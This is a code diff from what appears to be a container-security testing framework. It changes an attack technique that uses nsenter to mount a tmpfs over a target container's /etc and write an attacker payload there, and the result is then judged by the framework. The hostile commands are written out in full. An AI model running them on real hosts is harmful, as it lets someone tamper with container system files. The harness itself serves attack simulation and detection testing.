@@ -21,12 +21,13 @@ export const tmpfsOverEtc: Technique = {
     const payload = Buffer.from(requirePayload(attack), 'utf8');
     const target = await targetOf(ctx);
     const mountinfoBefore = await mountinfoOf(node, target.pid);
-    const command = ['nsenter', '-t', String(target.pid), '-m', 'mount', '-t', 'tmpfs', '-o', 'size=1m', 'tmpfs', '/etc'];
+    // One shell in the container's namespace mounts and writes: the write
+    // lands even if the container is stopped in between (the shell keeps the
+    // namespace alive), as a scripted attacker's would.
+    const command = ['nsenter', '-t', String(target.pid), '-m', '--', '/bin/sh', '-c', `mount -t tmpfs -o size=1m tmpfs /etc && cat > ${path}`];
     const startedAt = Date.now();
-    await attackerRuns(node, command);
+    await attackerRuns(node, command, payload);
     const doneAt = Date.now();
-    // The container's new /etc is reachable from the node through its root.
-    await attackerRuns(node, ['sh', '-c', `cat > /proc/${target.pid}/root${path}`], payload);
     return judgeOvermount(ctx, { target, path, payload, command, mountinfoBefore, startedAt, doneAt });
   },
 };
